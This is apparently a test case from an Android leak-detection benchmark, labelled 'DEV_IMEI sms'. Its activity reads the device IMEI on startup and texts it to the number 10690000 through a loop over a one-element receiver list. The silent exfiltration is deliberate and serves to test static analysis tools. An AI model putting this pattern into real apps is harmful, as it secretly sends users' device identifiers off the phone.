// about       A loop over the receivers of a list sends to each; the list has one.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.List;

public class MainActivity extends Activity {
  private final List<String> receivers = new ArrayList<String>();

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String id = phone.getDeviceId();
    // The only receiver.
    receivers.add("10690000");
    for (String receiver : receivers) {
      SmsManager.getDefault().sendTextMessage(receiver, null, id, null, null);
    }
    setTitle(receivers.size() + " receivers");
  }
}
